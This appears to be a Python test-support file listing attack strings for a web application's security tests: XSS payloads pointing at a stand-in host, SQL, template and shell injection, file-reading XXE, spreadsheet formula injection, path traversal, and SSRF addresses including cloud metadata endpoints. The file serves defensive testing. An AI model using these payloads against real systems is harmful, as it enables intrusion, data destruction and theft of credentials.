"""Strings that attackers try, written for these tests: script, markup, SQL, templates, paths, headers, formulas, letters.

``ktx`` marks what would run: a page on which it stands anywhere but as text has been broken into. Beside ours stands the
public Big List of Naughty Strings (tests/support/naughty_strings.json, version 2.0.4 of 2016, MIT, Max Woolf): scripts, injections,
paths, formats and letters that broke other people's programs.
"""

import json
from pathlib import Path

SCRIPT = (
    "<script>ktx()</script>", "<ScRiPt src=//ktx.example/a.js></sCrIpT>", "\"><script>ktx()</script>", "'><img src=x onerror=ktx()>",
    "<img src=`x` onerror=ktx()>", "<svg/onload=ktx()>", "<svg><script>ktx()</script></svg>", "<body onload=ktx()>",
    "<iframe srcdoc='<script>ktx()</script>'>", "<a href=javascript:ktx()>x</a>", "javascript:ktx()", "JaVaScRiPt:ktx()",
    "java\tscript:ktx()", " \x01javascript:ktx()", "data:text/html,<script>ktx()</script>", "vbscript:ktx()",
    "\" autofocus onfocus=ktx() x=\"", "' onmouseover=ktx() '", "</title><script>ktx()</script>", "</textarea><script>ktx()</script>",
    "--><script>ktx()</script>", "]]><script>ktx()</script>", "<style>@import'//ktx.example'</style>", "<math><mtext><script>ktx()</script>",
    "<form action=//ktx.example><input name=password>", "<base href=//ktx.example/>", "<meta http-equiv=refresh content='0;//ktx.example'>",
    "&lt;script&gt;ktx()&lt;/script&gt;", "&#60;script&#62;ktx()&#60;/script&#62;", "%3Cscript%3Ektx()%3C/script%3E", "\u003cscript\u003ektx()",
    "＜script＞ktx()＜/script＞", "<scr\x00ipt>ktx()</scr\x00ipt>", "<details open ontoggle=ktx()>", "<template><script>ktx()</script></template>",
)  # fmt: skip
INJECTION = (
    "' OR '1'='1", "'; DROP TABLE articles; --", "1; DELETE FROM audit", "1) UNION SELECT password_hash FROM users --", "\\'; --",
    "$$; SELECT pg_sleep(9); $$", "%' AND 1=0 UNION ALL SELECT 1 --", "a & | ! ( :* <->", "{{191*49}}", "${191*49}", "{{().__class__.__base__}}",
    "%(conn)s %s %n", "{0.__class__}", "=cmd|'/c calc'!A1", "@SUM(1+1)*cmd", "x\r\nSet-Cookie: ktx=1", "x%0d%0aSet-Cookie: ktx=1", "; cat /etc/passwd", "$(cat /etc/passwd)",
    "`cat /etc/passwd`", "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]><x>&e;</x>", "*)(uid=*))(|(uid=*",
)  # fmt: skip
PATHS = (
    "../../../../etc/passwd", "..\\..\\windows\\win.ini", "/etc/passwd", "....//....//etc/passwd", "%2e%2e%2fetc%2fpasswd", "..%c0%af..%c0%afetc/passwd",
    "file:///etc/passwd", "//ktx.example/x", "https://ktx.example/", "/\\ktx.example", "CON", "x\x00.html",
)  # fmt: skip
ODD = ("\x00", "\u202egnp.exe", "\ufeff", "-1", "0", "1e999", "99999999999999999999", "2026-02-31", "9999-12-31", "NaN", "null", "[]", "{}",
       "\U0001f600" * 50, "a" * 20_000, "\u0301" * 500, "ắ" * 3000, "\n" * 500, "٣", "²")  # fmt: skip
OURS = SCRIPT + INJECTION + PATHS + ODD
PUBLIC = tuple(
    text
    for text in json.loads(Path(__file__).with_name("naughty_strings.json").read_text(encoding="utf-8"))
    if text != "None"
    and "{{ " not in text
    and "{%" not in text  # echoed, these look like a leak of ours (pages.py)
)
EVERYTHING = OURS + PUBLIC

# Addresses a crawler must not be sent to. Hosts are written in the ways that parsers disagree about.
INNER = (
    "http://127.0.0.1/", "http://localhost/", "http://LOCALHOST./rss", "http://127.1/", "http://2130706433/", "http://0x7f000001/", "http://0177.0.0.1/",
    "http://0/", "http://0.0.0.0/", "http://[::1]/", "http://[::]/", "http://[::ffff:127.0.0.1]/", "http://[::ffff:7f00:1]/", "http://10.0.0.1/",
    "http://172.16.0.1/", "http://192.168.1.1/", "http://100.64.0.1/", "http://169.254.169.254/latest/meta-data/", "http://169.254.170.2/", "http://[fe80::1]/",
    "http://[fd00:ec2::254]/", "http://metadata.google.internal/", "http://127.0.0.1:5432/", "http://user:pass@127.0.0.1/", "http://example.vn@127.0.0.1/",
    "http://127.0.0.1%00.example.vn/", "http://[::1", "http://[127.0.0.1]/", "http:///rss", "http://", "https://:443/", "file:///etc/passwd", "gopher://127.0.0.1:6379/_x",
    "ftp://127.0.0.1/", "dict://127.0.0.1:11211/stat", "jar:http://127.0.0.1!/", "http://127.0.0.1.nip.io/", "http://①②⑦.⓪.⓪.①/", "http://example.vn:99999/",
    "http://224.0.0.1/", "http://255.255.255.255/", "http://[64:ff9b::7f00:1]/", "http://[2002:7f00:1::]/",
)  # fmt: skip
LINK_LOCAL = (
    "http://169.254.169.254/latest/meta-data/",
    "http://169.254.170.2/",
    "http://[fe80::1]/",
    "http://[fd00:ec2::254]/",
    "http://metadata.google.internal/",
)
